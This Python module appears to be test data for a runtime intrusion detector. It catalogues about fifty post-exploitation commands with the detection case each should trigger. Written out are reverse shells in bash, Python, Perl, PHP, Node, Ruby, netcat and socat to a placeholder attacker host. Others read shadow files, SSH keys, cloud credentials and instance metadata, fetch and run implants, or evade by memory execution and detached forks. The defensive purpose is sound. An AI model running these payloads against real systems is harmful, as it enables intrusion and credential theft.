"""What an intruder does once a command gets in: real tools, each with the case that must come of it.

In a command, A is the attacker's address, P the port at which he waits, SECRET a credential file that the service may
read, TMP the start of a name in /tmp, HOME a home folder.
"""

import shlex
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from itertools import combinations

from support.rules import WEB_RCE

LETTERS = {"W": "web_shell", "S": "shell_technique", "N": "network", "C": "credential", "I": "interactive"}


def case(groups: str) -> str:
    """The case of a set of groups by the shipped rule, each group by its letter."""
    found = WEB_RCE.outcomes[WEB_RCE.mask(LETTERS[letter] for letter in groups)]
    return WEB_RCE.cases[found].name if found >= 0 else "silence"


def severity(name: str) -> str:
    """The severity of a case; "" for silence."""
    return next((each.severity for each in WEB_RCE.cases if each.name == name), "")


@dataclass(frozen=True)
class Attack:
    """One play: the injected command, what is typed into the shell that it opens, and what must be told of it."""

    name: str
    command: str
    container: str
    host: str = ""
    talk: Sequence[str] = ()
    proof: str = ""
    """What must be in the command's output, in the reverse shell's, or in a request at the attacker's server."""

    needs: Sequence[str] = field(default=())
    """Programs; "root", "container": only in services that run so; "php-files": only where PHP runs from files."""

    plugin: bool = False
    """On a host, only our plugin knows where the detached process came from."""

    seconds: float = 0
    """How long something goes on after the request."""

    def groups(self, kind: str) -> str:
        """The groups in a kind of place: on hosts the wget of an administrator is no network activity."""
        return (self.host or self.container) if kind == "host" else self.container


def is_told(groups: str, found: str) -> bool:
    """Whether a case is right for groups: that of all of them, or one as severe of some.

    A better case of the same severity replaces the first without a notification.
    """
    some = {case("".join(chosen)) for size in range(len(groups)) for chosen in combinations(groups, size)}
    return found == case(groups) or (found in some and severity(found) == severity(case(groups)))


def _python(code: str) -> str:
    return f"python3 -c {shlex.quote(code)}"


SHELL = "import socket,os;s=socket.socket();s.connect(('A',P));[os.dup2(s.fileno(),n) for n in (0,1,2)];"
PERL = (
    'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(P,inet_aton("A")))||die;'
    'open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'
)
NODE = (
    'const k=require("net").connect(P,"A",()=>{const s=require("child_process").spawn("/bin/sh");'
    "k.pipe(s.stdin);s.stdout.pipe(k)})"
)
RUBY = 'c=TCPSocket.new("A",P);while l=c.gets;IO.popen(l,"r"){|o|c.print o.read};end'
PHP = '$s=fsockopen("A",P);exec("/bin/sh -i <&3 >&3 2>&3");'
METADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role"
MEMFD = (
    "import os,urllib.request as u;f=os.memfd_create('x');os.write(f,u.urlopen('http://A/implant').read());"
    "os.execv(f'/proc/self/fd/{f}',['kworker','A','P'])"
)
FORKS = (
    "import os,time;os.fork() or (os.setsid(),os.fork() or (time.sleep(1),os.dup2(os.open('TMP.out',65),1),"
    "os.execvp('cat',['cat','SECRET'])))"
)
WHO = ("id", "uname -a")
LOOT = ("id", "cat SECRET")

ATTACKS = [
    Attack("bash to /dev/tcp", "bash -c 'bash -i >& /dev/tcp/A/P 0>&1'", "WSNI", talk=WHO),
    Attack("bash to /dev/tcp, then the secret", "bash -c 'bash -i >& /dev/tcp/A/P 0>&1'", "WSNIC", talk=LOOT),
    Attack("python3 -c", _python(SHELL + "import subprocess;subprocess.call(['/bin/sh','-i'])"), "WSNI", talk=WHO),
    Attack(
        "python3 -c with a terminal, then a download",
        _python(SHELL + "import pty;pty.spawn('/bin/bash')"),
        "WSNI",
        talk=("id", "curl -s http://A/x.sh -o TMP.sh"),
    ),
    Attack("python3 -c, then the secret", _python(SHELL + "os.execl('/bin/sh','sh')"), "WSC", talk=LOOT),
    Attack("perl -e", f"perl -e {shlex.quote(PERL)}", "WSNI", talk=WHO),
    Attack("perl -e, then the secret", f"perl -e {shlex.quote(PERL)}", "WSIC", talk=LOOT),
    Attack("php -r", f"php -r {shlex.quote(PHP)}", "WSNI", talk=WHO, needs=["php"]),
    Attack("nc -e", "nc.traditional -e /bin/sh A P", "WSN", "WS", talk=WHO, needs=["nc.traditional"]),
    Attack("ncat --exec", "ncat --exec /bin/bash A P", "WSN", "WS", talk=WHO, needs=["ncat"]),
    Attack(
        "mkfifo and nc", "mkfifo TMP.f;cat TMP.f|/bin/sh -i 2>&1|nc A P >TMP.f", "WSNI", "WSI", talk=WHO, needs=["nc"]
    ),
    Attack("socat", "socat TCP:A:P EXEC:/bin/sh", "WSN", "WS", talk=WHO, needs=["socat"]),
    Attack("ruby -rsocket", f"ruby -rsocket -e {shlex.quote(RUBY)}", "WSN", talk=WHO, needs=["ruby"]),
    Attack("node -e", f"node -e {shlex.quote(NODE)}", "WSN", talk=WHO, needs=["node"]),
    Attack("cat a secret", "cat SECRET", "WC", proof="none"),
    Attack("base64 a secret", "base64 -w0 SECRET", "WC", proof=r"\w{20}"),
    Attack("cp a secret", "cp SECRET TMP.t && echo done", "WC", proof="done"),
    Attack("timeout env cat", "timeout 5 env X=1 cat SECRET", "WC", proof="none"),
    Attack("find -exec", r"find SECRET -exec cat {} \;", "WC", proof="none"),
    Attack("xargs", "echo SECRET | xargs cat", "WC", proof="none"),
    Attack("perl reads a secret", "perl -e 'open F,\"SECRET\";print <F>'", "WC", proof="none"),
    Attack("python one-liner reads a secret", _python("print(open('SECRET').read())"), "WC", proof="none"),
    Attack("exec -a", "bash -c 'exec -a nginx cat SECRET'", "WC", proof="none"),
    Attack("ld.so", "/lib64/ld-linux-x86-64.so.2 /bin/cat SECRET", "WC", proof="none"),
    Attack("copied cat", "cp /bin/cat TMP.nginx && TMP.nginx SECRET", "WC", proof="none"),
    Attack("linked secret", "ln -s SECRET TMP.t && tail -1 TMP.t", "WC", proof="none"),
    Attack("linked cat", "ln -s /bin/cat TMP.c && TMP.c SECRET", "WC", proof="none"),
    Attack("shell reads a secret", "while read line; do echo $line; done < SECRET", "WC", proof="none"),
    Attack("shadow", "cat /etc/shadow", "WC", proof="root:", needs=["root"]),
    Attack(
        "another's environment", "tr '\\0' '\\n' < /proc/1/environ", "WC", proof=r"=|\n\n", needs=["root", "container"]
    ),
    Attack("private key", "cat HOME/.ssh/id_rsa", "WC", proof="BEGIN"),
    Attack("cloud credentials", "cat HOME/.aws/credentials", "WC", proof="aws_secret"),
    Attack("dotenv", "cat HOME/app/.env", "WC", proof="PASSWORD"),
    Attack("look for keys", "find HOME -name id_rsa", "WC", proof="id_rsa"),
    Attack("post a secret", "curl -s -d @SECRET http://A/loot", "WNC", "WC", proof="ok"),
    Attack("curl metadata", f"curl -s {METADATA}", "WNC", "WC", proof="ASIATEST"),
    Attack("wget metadata", f"wget -qO- {METADATA}", "WNC", "WC", proof="ASIATEST"),
    Attack("curl metadata by number", "curl -s http://2852039166/latest/meta-data/", "WNC", "WC", proof="web-role"),
    Attack(
        "python metadata",
        _python(f"import urllib.request as u;print(u.urlopen('{METADATA}').read())"),
        "WNC",
        "WC",
        proof="ASIA",
    ),
    Attack(
        "bash metadata",
        "bash -c 'exec 3<>/dev/tcp/169.254.169.254/80; printf \"GET /latest/ HTTP/1.0\\r\\n\\r\\n\" >&3; cat <&3'",
        "WSC",
        proof="web-role",
    ),
    Attack("wget a script, run it", "wget -qO TMP.sh http://A/x.sh && sh TMP.sh", "WN", proof="uid="),
    Attack("curl a script into sh", "curl -s http://A/loot.sh | sh", "WNC", "WC", proof="none"),
    Attack("base64 into sh", "echo aWQK | base64 -d | sh", "WS", proof="uid="),
    Attack(
        "implant",
        "curl -so TMP.x http://A/implant && chmod +x TMP.x && (TMP.x A P >/dev/null 2>&1 &)",
        "WN",
        talk=WHO,
    ),
    Attack(
        "implant, detached, takes the secret",
        "wget -qO /var/tmp/TAG http://A/implant; chmod 755 /var/tmp/TAG; setsid /var/tmp/TAG A P >/dev/null 2>&1 &",
        "WNC",
        talk=LOOT,
    ),
    Attack("implant in memory", _python(MEMFD), "WSN", talk=WHO),
    Attack("renamed curl", "cp /usr/bin/curl TMP.kworker && TMP.kworker -s http://A/x.sh", "WN", proof="id"),
    Attack(
        "dropped python script",
        "curl -so TMP.py http://A/a.py && python3 TMP.py SECRET A P",
        "WNC",
        talk=("end",),
        proof="none",
    ),
    Attack(
        "setsid, later",
        "setsid sh -c 'sleep 1; cat SECRET; curl -s http://A/TAG' >/dev/null 2>&1 &",
        "WNC",
        "WC",
        proof="TAG",
        seconds=2.5,
    ),
    Attack(
        "nohup, later",
        "nohup sh -c 'sleep 1; wget -qO TMP.sh http://A/TAG; sh TMP.sh' >/dev/null 2>&1 &",
        "WN",
        proof="TAG",
        seconds=2.5,
    ),
    Attack(
        "two forks, later",
        "(sh -c '(sleep 1; cat SECRET >TMP.o; curl -s -T TMP.o http://A/TAG) >/dev/null 2>&1 &' &)",
        "WNC",
        "WC",
        proof="TAG",
        seconds=2.5,
    ),
    Attack("python daemon, later", _python(FORKS) + " && echo gone", "WSC", proof="gone", plugin=True, seconds=2),
    Attack("uploaded web shell", "", "WC", proof="none", needs=["php-files"]),
]


MARKS = {"root", "container", "php-files"}
"""Needs that are no programs."""


def chosen(allowed: frozenset[str], start: int, number: int) -> Iterator[tuple[int, Attack]]:
    """The next attacks in turn that a service allows, with their places in the list."""
    for step in range(len(ATTACKS)):
        index = (start + step) % len(ATTACKS)
        if MARKS & set(ATTACKS[index].needs) <= allowed and number:
            number -= 1
            yield index, ATTACKS[index]
